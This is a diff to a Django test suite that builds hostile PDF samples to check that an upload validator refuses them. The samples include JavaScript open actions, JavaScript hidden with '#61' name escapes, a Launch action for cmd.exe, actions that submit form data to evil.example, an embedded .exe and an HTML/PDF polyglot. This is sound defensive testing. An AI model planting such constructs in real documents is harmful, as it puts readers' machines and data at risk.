@@ -21,7 +21,20 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils import translation
 from PIL import ExifTags, Image, ImageCms, PngImagePlugin
+from pypdf import PdfReader, PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.annotations import Link
+from pypdf.generic import (
+    ArrayObject,
+    ContentStream,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
+from network import uploads
 from network.models import Organisation
 from network.uploads import (
     SafeUploadTo,
@@ -106,6 +119,127 @@ def pdf_bytes():
     assert data.startswith(b"%PDF-") and b"%%EOF" in data[-32:]
     return data
 
+
+def text_pdf(pages=1):
+    """A PdfWriter holding an ordinary act: text, a link to a web page, and an open action
+    that only shows the first page (a destination, not a script)."""
+    writer = PdfWriter()
+    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
+    for number in range(pages):
+        page = writer.add_blank_page(595, 842)
+        page[NameObject("/Resources")] = _pdf_value({"/Font": {"/F1": font}})
+        content = ContentStream(None, writer)
+        content.set_data(b"BT /F1 14 Tf 72 760 Td (Delibera n. 231 del 10/09/2010) Tj ET")
+        page.replace_contents(content)
+        link = Link(rect=(72, 700, 300, 720), url="https://www.provincia.asti.it/")
+        writer.add_annotation(number, link)
+    first = writer.pages[0].indirect_reference
+    writer.root_object[NameObject("/OpenAction")] = ArrayObject([first, NameObject("/Fit")])
+    return writer
+
+
+def _pdf_value(value):
+    """A PDF object from Python values: "/Name" strings are names, other strings text."""
+    if isinstance(value, dict):
+        return DictionaryObject({NameObject(key): _pdf_value(item) for key, item in value.items()})
+    if isinstance(value, list):
+        return ArrayObject(_pdf_value(item) for item in value)
+    if isinstance(value, str):
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+    return NumberObject(value)
+
+
+def written(writer):
+    output = io.BytesIO()
+    writer.write(output)
+    data = output.getvalue()
+    PdfReader(io.BytesIO(data), strict=True)  # a well-formed PDF: what is refused is inside
+    return data
+
+
+def raw_pdf(*objects, trailer=b""):
+    """A PDF written byte by byte: objects numbered from 1, the first one the catalog."""
+    data = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(data))
+        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(data)
+    size = len(objects) + 1
+    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    data += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer)
+    return data + b"startxref\n%d\n%%%%EOF\n" % xref
+
+
+RAW_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
+RAW_PAGES = (
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+)
+
+
+def with_pdf(change):
+    """An ordinary act changed by change(writer), as bytes."""
+
+    def build():
+        writer = text_pdf()
+        change(writer)
+        return written(writer)
+
+    return build
+
+
+def _set_root(key, value):
+    return lambda writer: writer.root_object.__setitem__(NameObject(key), _pdf_value(value))
+
+
+def _annotate(annotation):
+    return lambda writer: writer.add_annotation(0, annotation)
+
+
+def _add_xfa(writer):
+    template = DecodedStreamObject()
+    template.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {
+            NameObject("/Fields"): ArrayObject(),
+            # A stream is an indirect object: pypdf's writer has no public call for it.
+            NameObject("/XFA"): ArrayObject([_pdf_value("template"), writer._add_object(template)]),
+        }
+    )
+
+
+def _encrypt(user_password, owner_password):
+    # RC4: pypdf writes it without the cryptography library.
+    return lambda writer: writer.encrypt(user_password, owner_password, algorithm="RC4-128")
+
+
+def _link(**fields):
+    return {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [72, 600, 300, 620], **fields}
+
+
+# JavaScript hidden from a byte search: "#61" is "a" and "#53" is "S" in a PDF name.
+OBFUSCATED_JAVASCRIPT = raw_pdf(
+    b"<< /Type /Catalog /Pages 2 0 R "
+    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
+    *RAW_PAGES,
+)
+assert b"JavaScript" not in OBFUSCATED_JAVASCRIPT and b"/JS" not in OBFUSCATED_JAVASCRIPT
+
+# Object 4 holds a script that nothing points at.
+UNREFERENCED_JAVASCRIPT = raw_pdf(
+    RAW_CATALOG, *RAW_PAGES, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+)
+
+# AES-256 (revision 6) needs a cryptography library to be even tried: refused all the same.
+AES_ENCRYPTED = raw_pdf(
+    RAW_CATALOG,
+    *RAW_PAGES,
+    trailer=b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -1028 "
+    + b"/O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> >> /ID [<%s> <%s>]"
+    % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16, b"66" * 16, b"66" * 16),
+)
 
 SVG_WITH_SCRIPT = (
     b'<?xml version="1.0" encoding="UTF-8"?>\n'
@@ -263,6 +397,157 @@ def test_a_pdf_is_accepted_whatever_its_name():
 )
 def test_what_is_not_a_whole_pdf_is_refused(name, data, code):
     assert refusal(validate_pdf, upload(name, data)).code == code
+
+
+def test_an_ordinary_pdf_with_text_and_links_is_accepted():
+    data = written(text_pdf(pages=3))
+    reader = PdfReader(io.BytesIO(data))
+    assert "Delibera n. 231" in reader.pages[0].extract_text()
+    assert reader.pages[0]["/Annots"][0].get_object()["/A"]["/S"] == "/URI"
+    validate_pdf(upload("delibera.pdf", data))
+    validate_pdf(upload("delibera.pdf", raw_pdf(RAW_CATALOG, *RAW_PAGES)))
+    # Objects that point at each other in a loop are visited once.
+    loop = raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>",
+        *RAW_PAGES,
+        b"[4 0 R 1 0 R 5 0 R]",
+        b"[4 0 R]",
+    )
+    validate_pdf(upload("delibera.pdf", loop))
+
+
+def _broken_xref():
+    data = written(text_pdf())
+    start = data.rindex(b"startxref\n") + len(b"startxref\n")
+    end = data.index(b"\n", start)
+    return data[:start] + str(int(data[start:end]) - 7).encode() + data[end:]
+
+
+def _truncated_with_end():
+    data = written(text_pdf())
+    return data[: len(data) // 2] + b"\n%%EOF\n"
+
+
+HOSTILE_PDFS = {
+    "OpenAction JavaScript": (
+        with_pdf(_set_root("/OpenAction", {"/S": "/JavaScript", "/JS": "app.alert('aperto')"})),
+        "pdf_javascript",
+    ),
+    "Names JavaScript": (
+        with_pdf(lambda writer: writer.add_open_action(JavaScript("this.print({bUI: false})"))),
+        "pdf_javascript",
+    ),
+    "obfuscated /J#61vaScript": (lambda: OBFUSCATED_JAVASCRIPT, "pdf_javascript"),
+    "JavaScript nothing points at": (lambda: UNREFERENCED_JAVASCRIPT, "pdf_javascript"),
+    "Launch action": (
+        with_pdf(_annotate(_link(**{"/A": {"/S": "/Launch", "/F": "cmd.exe"}}))),
+        "pdf_launch",
+    ),
+    "annotation with /AA": (
+        with_pdf(
+            _annotate(
+                _link(
+                    **{
+                        "/A": {"/S": "/URI", "/URI": "https://www.provincia.asti.it/"},
+                        "/AA": {"/E": {"/S": "/URI", "/URI": "https://evil.example/"}},
+                    }
+                )
+            )
+        ),
+        "pdf_automatic_actions",
+    ),
+    "page with /AA": (
+        with_pdf(
+            lambda writer: writer.pages[0].__setitem__(
+                NameObject("/AA"), _pdf_value({"/O": {"/S": "/Named", "/N": "/Print"}})
+            )
+        ),
+        "pdf_automatic_actions",
+    ),
+    "embedded file": (
+        with_pdf(lambda writer: writer.add_attachment("verbale.exe", b"MZ\x90\x00")),
+        "pdf_embedded_file",
+    ),
+    "file attachment annotation": (
+        with_pdf(
+            _annotate(
+                {
+                    "/Type": "/Annot",
+                    "/Subtype": "/FileAttachment",
+                    "/Rect": [72, 600, 90, 620],
+                    "/FS": {"/Type": "/Filespec", "/F": "nota.txt"},
+                }
+            )
+        ),
+        "pdf_embedded_file",
+    ),
+    "GoToE action": (
+        with_pdf(
+            _annotate(_link(**{"/A": {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "allegato"}}}))
+        ),
+        "pdf_embedded_file",
+    ),
+    "XFA form": (with_pdf(_add_xfa), "pdf_xfa"),
+    "SubmitForm action": (
+        with_pdf(
+            _annotate(
+                _link(
+                    **{
+                        "/A": {
+                            "/S": "/SubmitForm",
+                            "/F": {"/FS": "/URL", "/F": "https://evil.example/raccolta"},
+                        }
+                    }
+                )
+            )
+        ),
+        "pdf_sends_data",
+    ),
+    "ImportData action": (
+        with_pdf(_annotate(_link(**{"/A": {"/S": "/ImportData", "/F": "dati.fdf"}}))),
+        "pdf_sends_data",
+    ),
+    "RichMedia annotation": (
+        with_pdf(
+            _annotate({"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": [72, 400, 300, 600]})
+        ),
+        "pdf_multimedia",
+    ),
+    "encrypted with a password": (with_pdf(_encrypt("riservato", "ufficio")), "pdf_encrypted"),
+    "encrypted, opens without a password": (with_pdf(_encrypt("", "ufficio")), "pdf_encrypted"),
+    "encrypted with AES-256": (lambda: AES_ENCRYPTED, "pdf_encrypted"),
+    "garbage after the header": (
+        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
+        "pdf_unreadable",
+    ),
+    "cut in the middle, end added": (_truncated_with_end, "pdf_unreadable"),
+    "cross-reference table pointing elsewhere": (_broken_xref, "pdf_unreadable"),
+    "truncated": (lambda: written(text_pdf())[:-40], "damaged_pdf"),
+    "HTML/PDF polyglot": (
+        lambda: b"<html><script>alert(document.domain)</script>\n" + written(text_pdf()),
+        "not_pdf",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE_PDFS)
+def test_a_pdf_with_active_content_or_malformed_is_refused(case):
+    build, code = HOSTILE_PDFS[case]
+    assert refusal(validate_pdf, upload("delibera.pdf", build())).code == code
+
+
+def test_the_pages_and_the_objects_of_a_pdf_are_bounded(monkeypatch):
+    data = written(text_pdf(pages=3))
+    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 3)
+    validate_pdf(upload("atto.pdf", data))
+    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 2)
+    error = refusal(validate_pdf, upload("atto.pdf", data))
+    assert error.code == "pdf_too_many_pages"
+    with translation.override("it"):
+        assert "troppe pagine: al massimo 2." in error.messages[0]
+    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 2000)
+    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 10)
+    assert refusal(validate_pdf, upload("atto.pdf", data)).code == "pdf_too_complex"
 
 
 def test_an_oversize_pdf_is_refused(settings):
@@ -587,6 +872,65 @@ def test_the_admin_refuses_what_is_not_an_acceptable_pdf(admin_client, name, bui
     assert response.context["adminform"].form["title_it"].value() == ACT_FIELDS["title_it"]
     assert not Deliberation.objects.exists()
     assert stored_files() == []
+
+
+HOSTILE_ACT_DOCUMENTS = {
+    "OpenAction JavaScript": "Il PDF contiene codice JavaScript",
+    "Names JavaScript": "Il PDF contiene codice JavaScript",
+    "obfuscated /J#61vaScript": "Il PDF contiene codice JavaScript",
+    "Launch action": "Il PDF contiene comandi che avviano altri programmi",
+    "annotation with /AA": "Il PDF contiene azioni che partono da sole",
+    "embedded file": "Il PDF contiene file allegati",
+    "XFA form": "Il PDF è un modulo XFA",
+    "HTML/PDF polyglot": "Questo file non è un documento PDF",
+    "truncated": "Questo documento PDF è incompleto o danneggiato",
+    "garbage after the header": "Questo documento PDF non si può leggere",
+    "encrypted with a password": "Questo documento PDF è protetto",
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE_ACT_DOCUMENTS)
+def test_the_admin_refuses_an_acts_pdf_with_active_content_and_keeps_what_was_typed(
+    admin_client, case
+):
+    build, _code = HOSTILE_PDFS[case]
+    url = admin_url(Deliberation, "add")
+    post = form_data(
+        admin_client,
+        url,
+        **ACT_FIELDS,
+        summary_it="Il protocollo della rete, approvato dalla Giunta.",
+        document=upload("delibera.pdf", build(), "application/pdf"),
+    )
+    response = admin_client.post(url, post)
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert HOSTILE_ACT_DOCUMENTS[case] in html
+    assert "Salv" in html.split(HOSTILE_ACT_DOCUMENTS[case], 1)[1][:200]  # what to do
+    form = response.context["adminform"].form
+    assert list(form.errors) == ["document"]
+    assert form["title_it"].value() == ACT_FIELDS["title_it"]
+    assert form["number"].value() == "231"
+    assert form["summary_it"].value() == "Il protocollo della rete, approvato dalla Giunta."
+    assert 'value="approvazione-protocollo"' in html
+    assert not Deliberation.objects.exists()
+    assert stored_files() == []
+
+
+def test_the_admin_stores_an_ordinary_acts_pdf_with_text_and_links(admin_client):
+    document = written(text_pdf(pages=2))
+    url = admin_url(Deliberation, "add")
+    post = form_data(
+        admin_client,
+        url,
+        **ACT_FIELDS,
+        document=upload("delibera.pdf", document, "application/pdf"),
+    )
+    assert admin_client.post(url, post).status_code == 302
+    act = Deliberation.objects.get()
+    with default_storage.open(act.document.name) as handle:
+        assert handle.read() == document
 
 
 def test_an_acts_pdf_is_stored_safely_and_served_as_a_download(admin_client, client):
